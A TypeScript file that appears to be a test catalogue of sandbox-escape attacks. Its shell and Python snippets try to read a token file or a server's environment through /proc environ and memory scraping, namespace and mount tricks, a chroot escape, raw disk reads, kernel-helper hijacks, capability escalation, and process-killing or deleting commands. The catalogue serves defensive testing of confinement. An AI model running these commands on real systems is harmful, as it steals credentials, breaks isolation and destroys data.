// Ways to get at a token file or at the environment of a server, for commands in confinement. `$TOKEN` is the file,
// `$DATA` its directory, `$PARENT` the one above, `$SERVER` the pid of a process that has the token in its environment,
// `$LOOT` a directory that may be written, with the links `file` and `directory` that were made before.

type Attack = {
  readonly title: string;
  readonly script: string;
  /** It does get at it where nothing is confined, and leaves everything as it was. */
  readonly works?: true;
};

const HANDLE = `python3 - <<'EOF'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
handle, mount = Handle(bytes=128), ctypes.c_int()
libc.name_to_handle_at(-100, os.environ["PARENT"].encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
for place in ["/", os.environ["PARENT"], os.environ["LOOT"]]:
    fd = libc.open_by_handle_at(os.open(place, os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
    print(place, fd, ctypes.get_errno())
    if fd >= 0:
        print(open(os.open("data/token", os.O_RDONLY, dir_fd=fd)).read())
EOF`;

const IN_NEW_MOUNTS: readonly (readonly [string, string])[] = [
  ["umount", 'umount "$DATA"; cat "$TOKEN"'],
  ["lazy umount", 'umount -l "$DATA"; umount -l "$PARENT"; cat "$TOKEN"'],
  ["umount of everything", 'umount -R "$PARENT"; umount -R /tmp; umount -al; cat "$TOKEN"'],
  ["bind mount", 'mount --bind "$PARENT" "$LOOT/into"; cat "$LOOT/into/data/token"'],
  ["recursive bind mount", 'mount --rbind / "$LOOT/into"; umount -l "$LOOT/into$DATA"; cat "$LOOT/into$TOKEN"'],
  ["moved mount", 'mount --move "$DATA" "$LOOT/into"; cat "$TOKEN"'],
  [
    "overlay",
    'mount -t overlay x -o "lowerdir=$PARENT:$LOOT" "$LOOT/into" && cat "$LOOT/into/data/token"; mount -t overlay x -o "lowerdir=/:$LOOT" "$LOOT/into" && cat "$LOOT/into$TOKEN"',
  ],
  ["remount", 'mount -o remount,rw "$DATA"; mount -o remount,bind,rw "$DATA"; cat "$TOKEN"'],
  [
    "pivot_root",
    'mount -t tmpfs x "$LOOT/into"; mkdir "$LOOT/into/o"; pivot_root "$LOOT/into" "$LOOT/into/o"; read -r x < "/o$TOKEN"; echo "$x"',
  ],
  ["proc", 'mount -t proc x "$LOOT/into"; cat "$LOOT"/into/*/environ "$LOOT"/into/*/root"$TOKEN"'],
  ["file handle", HANDLE],
];

type Row = readonly [title: string, script: string];

const WORKING: readonly Row[] = [
  ["cat", 'cat "$TOKEN"'],
  ["a redirection", 'read -r x < "$TOKEN"; echo "$x"'],
  ["cp", 'cp "$TOKEN" "$LOOT/copy"; cat "$LOOT/copy"'],
  ["cp of the whole directory", 'rm -rf "$LOOT/all"; cp -a "$DATA/." "$LOOT/all"; cat "$LOOT/all/token"'],
  ["tar", 'tar cf - "$DATA" | tar xOf -'],
  ["find -exec", 'find "$PARENT" -name "tok*" -exec cat {} +'],
  ["find by inode", 'find "$PARENT" -inum "$INODE" -exec cat {} +'],
  ["grep -r", 'grep -rh . "$PARENT"'],
  ["dd", 'dd if="$TOKEN"'],
  ["python", `python3 -c 'import os; print(open(os.environ["TOKEN"]).read())'`],
  ["perl", `perl -e 'open F, $ENV{TOKEN}; print <F>'`],
  ["a relative path", 'cd "$PARENT"; cd data; cat token; cat ../data/token'],
  ["a link to the file, made before", 'cat "$LOOT/file"'],
  ["a link to the directory, made before", 'cat "$LOOT/directory/token"'],
  ["a link made now", 'ln -s "$DATA" "$LOOT/now"; cat "$LOOT/now/token"'],
  ["the root of another process", 'cat /proc/*/root"$TOKEN" /proc/*/cwd"$TOKEN"'],
  ["the environment of the server", 'cat "/proc/$SERVER/environ"'],
];

const OTHERS: readonly Row[] = [
  ["a hard link", 'ln "$TOKEN" "$LOOT/hard"; cat "$LOOT/hard"'],
  ["the directory moved away", 'mv -T "$DATA" "$PARENT/away"; cat "$PARENT/away/token"'],
  ["the one above moved away", 'mv -T "$PARENT" "$PARENT.away"; cat "$PARENT.away/data/token"'],
  ["what is hidden removed", 'rm -f "$TOKEN"; rmdir "$DATA"; rm -rf "$DATA"; cat "$TOKEN"'],
  ["the directory that was entered before", 'cat /proc/1/cwd/parent/data/token "/proc/1/cwd$TOKEN"'],
  ["open files of another process", "for f in /proc/*/fd/*; do timeout 1 head -c 200 $f; done"],
  ["the environment of everybody", "cat /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ"],
  ["ps", "ps axeww"],
  [
    "the memory of everybody",
    `python3 - <<'EOF'
import glob, re
for maps in glob.glob("/proc/[0-9]*/maps"):
    if "self" in maps: continue
    try:
        for line in open(maps):
            if "[stack]" not in line: continue
            a, b = (int(x, 16) for x in line.split()[0].split("-"))
            mem = open(maps.replace("maps", "mem"), "rb", 0); mem.seek(a)
            print(re.findall(rb"ORCH_TOKEN=\\S{1,80}", mem.read(b - a)))
    except OSError as error: print(maps, error)
EOF`,
  ],
  ["a debugger", 'gdb -p "$SERVER" -batch -ex "info auxv"; strace -p "$SERVER" -o /dev/stdout & sleep 0.3'],
  ["nsenter", 'nsenter -t 1 -a cat "$TOKEN"; nsenter -t "$SERVER" -m -p cat "$TOKEN"'],
  ["nsenter by a file", 'for f in /proc/*/ns/mnt; do nsenter --mount="$f" cat "$TOKEN"; done'],
  ["chroot", 'chroot /proc/1/root cat "$TOKEN"; chroot / cat "$TOKEN"'],
  [
    "a way out of a chroot",
    `python3 -c 'import os; d=os.environ["LOOT"]; os.chroot(d); [os.chdir("..") for _ in range(99)]; os.chroot("."); print(open(os.environ["TOKEN"]).read())'`,
  ],
  [
    "the disk, by its node",
    `sync; mknod "$LOOT/disk" b "$MAJOR" "$MINOR"; for f in "$LOOT/disk" /dev/mem /dev/kmem /proc/kcore /dev/sd* /dev/vd* /dev/nvme*; do
[[ -e $f ]] && timeout 3 grep -aom1 "the-key-[0-9a-f-]*" "$f"; debugfs -R "cat $TOKEN" "$f"; done`,
  ],
  ["rights taken back", 'setpriv --bounding-set +all --inh-caps +all --ambient-caps +all umount "$DATA"; cat "$TOKEN"'],
  ["sudo and su", 'sudo -n umount "$DATA"; su -c "umount $DATA" root; cat "$TOKEN"'],
  [
    "a program with rights of its own",
    'cp /bin/umount "$LOOT/u"; chmod u+s "$LOOT/u"; setcap cap_sys_admin+ep "$LOOT/u"; "$LOOT/u" "$DATA"; cat "$TOKEN"',
  ],
  [
    "a core pattern",
    'echo "|/bin/cp $TOKEN $LOOT/core" > /proc/sys/kernel/core_pattern; ulimit -c 9; sh -c "kill -6 \\$\\$"',
  ],
  [
    "helpers of the kernel",
    `printf '#!/bin/sh\\ncp %s %s/helped' "$TOKEN" "$LOOT" > "$LOOT/help"; chmod +x "$LOOT/help"
for f in /sys/kernel/uevent_helper /proc/sys/kernel/modprobe /sys/fs/cgroup/*/release_agent; do echo "$LOOT/help" > "$f"; done
mkdir /sys/fs/cgroup/memory/x; echo add > /sys/class/net/lo/uevent`,
  ],
  [
    "what outlives it",
    '(setsid sh -c \'sleep 1; cat "$TOKEN" /proc/*/environ > "$LOOT/late"\' > /dev/null 2>&1 &); true',
  ],
  ["signals to everybody", 'kill -9 "$SERVER"; kill -9 -1'],
  ["file handle", HANDLE],
  ...IN_NEW_MOUNTS.slice(0, -1),
  ...IN_NEW_MOUNTS.map(
    ([title, script]): Row => [
      `${title}, as root of new namespaces`,
      `unshare --user --map-root-user --mount --pid --fork bash -c ${quoted(script)}`,
    ],
  ),
];

export const ATTACKS: readonly Attack[] = [
  ...WORKING.map(([title, script]) => ({ title, script, works: true }) as const),
  ...OTHERS.map(([title, script]) => ({ title, script })),
];

function quoted(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}
